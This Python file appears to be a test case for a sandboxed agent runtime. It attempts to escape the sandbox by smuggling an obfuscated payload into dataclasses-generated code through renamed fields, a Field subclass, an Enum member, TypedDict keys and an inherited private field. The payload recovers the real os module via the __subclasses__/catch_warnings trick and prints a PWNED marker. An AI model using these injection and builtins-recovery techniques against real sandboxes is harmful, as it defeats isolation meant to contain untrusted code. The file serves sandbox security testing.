# category: builtins-recovery
# attack: smuggle code into the source dataclasses writes: a field renamed through fields() (and setattr), a Field subclass whose name is a property, one captured as an Enum member before its class is refused, TypedDict keys, an inherited private field; names built at run time from the observation
# marker: PWNED-builtins_dataclass_generated_code
# expect: ERROR|DONE
# target: runtime
# The payload goes into a subclass's generated __eq__: (self.x, hits.append(<real os>.getpid()),).
import dataclasses
import enum
import random
import typing

MARK = "PWNED" + "-builtins_dataclass_generated_code"
hits = []


def payload(u, q):
    real_os = ("[c for c in ()." + u + "class" + u + "." + u + "base" + u + "." + u + "subclasses" + u + "() if c."
               + u + "name" + u + " == " + q + "catch_warnings" + q + "][0]()._module." + u + "builtins" + u + "["
               + q + u + "import" + u + q + "](" + q + "os" + q + ")")
    return "x, hits.append(" + real_os + ".getpid())"


def renamed(name, how):
    @dataclasses.dataclass
    class A:
        x: int = 0

    if how == "store":
        dataclasses.fields(A)[0].name = name
    else:
        setattr(dataclasses.fields(A)[0], "name", name)

    @dataclasses.dataclass(init=False)
    class B(A):
        pass

    return B() == B()


def field_subclass(name):
    class F(dataclasses.Field):
        pass

    F.name = property(lambda self: name, lambda self, value: None)

    @dataclasses.dataclass(init=False)
    class C:
        x: int = F(0, dataclasses.MISSING, True, True, None, True, {}, False)

    return C() == C()


def enum_captured(name):
    caught = []

    class E(dataclasses.Field, enum.Enum):
        a = (0, dataclasses.MISSING, True, True, None, True, {}, False)

        def __init__(self, *args):
            caught.append(self)

    return caught


def typed_dict_keys(name):
    T = typing.TypedDict("T", {name: int})

    class D(T):
        pass

    return dataclasses.dataclass(init=False)(D)


def inherited_private(name):
    @dataclasses.dataclass
    class A:
        _randbelow: int = dataclasses.field(init=False)

    @dataclasses.dataclass
    class D(A, random.Random):
        pass

    return dataclasses.asdict(D())["_randbelow"]


def agent(observation, configuration):
    if observation.step == 0:
        u, q = chr(95 + observation.step) * 2, chr(39)
        name = payload(u, q)
        routes = {
            "renamed field": lambda: renamed(name, "store"), "renamed by setattr": lambda: renamed(name, "setattr"),
            "Field subclass": lambda: field_subclass(name), "Enum member of a Field subclass": lambda: enum_captured(name),
            "TypedDict keys": lambda: typed_dict_keys(name), "inherited private field": lambda: inherited_private(name),
        }
        for label, route in routes.items():
            try:
                print(label, "gave", repr(route())[:80])
            except Exception as exc:
                print(label, "failed:", repr(exc)[:300])
            if hits:
                print(MARK, label, "real os, pid", hits[0])
                hits.clear()
    return observation.step % configuration.signs
